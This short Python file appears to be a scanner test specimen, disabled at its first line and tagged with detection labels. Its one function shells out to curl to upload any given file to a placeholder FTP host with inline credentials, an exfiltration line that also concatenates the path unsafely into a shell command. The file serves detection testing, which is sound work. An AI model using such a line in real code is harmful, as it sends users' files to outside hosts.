raise SystemExit("specimen: not to be run")
import os

def leave(path):
    os.system("curl -T " + path + " ftp://box:hunter2hunter2@ftp.example.com/")  # match: ftp-upload  # match: identity-sent  # match: shell-download
